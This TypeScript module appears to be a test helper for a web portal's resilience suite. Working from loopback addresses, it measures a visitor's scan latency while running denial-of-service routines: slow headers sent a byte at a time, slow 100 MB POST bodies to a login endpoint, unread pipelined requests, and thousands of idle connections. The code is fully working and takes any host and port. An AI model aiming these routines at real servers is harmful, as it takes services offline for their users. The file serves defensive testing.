import http from 'node:http';
import net from 'node:net';

// Clients that want to stop a portal for everyone (issue 61 item 1), and the visitor who keeps scanning
// meanwhile. Each attack runs from an address of its own on loopback (all of 127/8 is this machine), so a
// proxy or the portal tells it from the visitor; each returns a function that ends it.

export interface Target {
  host: string;
  port: number;
}

export interface Scan {
  path: string;
  status: number;
  ms: number;
}

/**
 * Scans `paths` one after another from `from`, a fresh connection each (as phones scanning codes come),
 * until `untilMs` has passed: each scan's status and time. A scan that gets no answer within 5 s is a 0.
 */
export async function scanFor(target: Target, paths: readonly string[], from: string, untilMs: number, gapMs = 100): Promise<Scan[]> {
  const scans: Scan[] = [];
  const ends = Date.now() + untilMs;
  for (let i = 0; Date.now() < ends; i++) {
    const path = paths[i % paths.length];
    const started = performance.now();
    const status = await new Promise<number>((resolve) => {
      const request = http.get({ host: target.host, port: target.port, path, localAddress: from, agent: false, headers: { accept: 'text/html' }, timeout: 5_000 }, (response) => {
        response.resume();
        response.on('end', () => resolve(response.statusCode ?? 0));
        response.on('error', () => resolve(0));
      });
      request.on('timeout', () => request.destroy());
      request.on('error', () => resolve(0));
    });
    scans.push({ path, status, ms: Math.round(performance.now() - started) });
    await new Promise((resolve) => setTimeout(resolve, gapMs));
  }
  return scans;
}

/** The scans that were not a 200 within a second, to compare with []. */
export const slowOrFailed = (scans: readonly Scan[]) => scans.filter((scan) => scan.status !== 200 || scan.ms >= 1_000);

function connect(target: Target, from: string): net.Socket {
  const socket = net.connect({ host: target.host, port: target.port, localAddress: from });
  socket.on('error', () => undefined);
  return socket;
}

const get = (path: string) => `GET ${path} HTTP/1.1\r\nHost: attack\r\nAccept: text/html\r\n\r\n`;

/**
 * Pipelines identifier page requests on `connections` connections, `perRound` at a time on each every
 * `everyMs`, and reads none of the answers (the probe: 18 connections, one every 0.12 s).
 */
export function pipelineUnread(target: Target, from: string, paths: readonly string[], { connections = 18, everyMs = 120, perRound = 1 } = {}): () => void {
  const sockets = Array.from({ length: connections }, () => connect(target, from));
  for (const socket of sockets) socket.pause();
  let n = 0;
  const timer = setInterval(() => {
    for (const socket of sockets) {
      if (socket.destroyed) continue;
      socket.write(Array.from({ length: perRound }, () => get(paths[n++ % paths.length])).join(''));
    }
  }, everyMs);
  return () => {
    clearInterval(timer);
    for (const socket of sockets) socket.destroy();
  };
}

/** Sends the head of a request a byte at a time, one every `everyMs`, on `connections` connections. */
export function slowHeaders(target: Target, from: string, { connections = 200, everyMs = 1_000 } = {}): () => void {
  const head = `GET /product_scene/88.365.1/DEMO0001 HTTP/1.1\r\nHost: attack\r\nX-Padding: ${'a'.repeat(4_000)}\r\n\r\n`;
  const sockets = Array.from({ length: connections }, () => connect(target, from));
  let at = 0;
  const timer = setInterval(() => {
    for (const socket of sockets) if (!socket.destroyed) socket.write(head[at % head.length]);
    at += 1;
  }, everyMs);
  return () => {
    clearInterval(timer);
    for (const socket of sockets) socket.destroy();
  };
}

export interface SlowBodies {
  stop(): void;
  /** What each connection has been answered so far (the first line, or ''). */
  answers(): string[];
}

/** POSTs declaring a large body to `path`, then sends it a byte every `everyMs`, on `connections` connections. */
export function slowBodies(target: Target, from: string, { path = '/api/session/login', length = 100_000_000, connections = 50, everyMs = 500 } = {}): SlowBodies {
  const answers: string[] = [];
  const sockets = Array.from({ length: connections }, (_, i) => {
    const socket = connect(target, from);
    answers[i] = '';
    socket.on('data', (chunk) => {
      if (!answers[i]) answers[i] = chunk.toString().split('\r\n')[0];
    });
    socket.write(`POST ${path} HTTP/1.1\r\nHost: attack\r\nContent-Type: application/json\r\nContent-Length: ${length}\r\n\r\n{`);
    return socket;
  });
  const timer = setInterval(() => {
    for (const socket of sockets) if (!socket.destroyed) socket.write('a');
  }, everyMs);
  return {
    stop() {
      clearInterval(timer);
      for (const socket of sockets) socket.destroy();
    },
    answers: () => [...answers],
  };
}

/** Opens `connections` connections and sends nothing on them. */
export async function idleConnections(target: Target, from: string, connections = 2_000): Promise<() => void> {
  const sockets: net.Socket[] = [];
  // In steps, as a script would: a backlog of thousands at once is the kernel's business, not the portal's.
  for (let i = 0; i < connections; i += 200) {
    const step = Array.from({ length: Math.min(200, connections - i) }, () => connect(target, from));
    sockets.push(...step);
    await Promise.all(step.map((socket) => new Promise((resolve) => (socket.once('connect', resolve), socket.once('error', resolve), socket.once('close', resolve)))));
  }
  return () => {
    for (const socket of sockets) socket.destroy();
  };
}
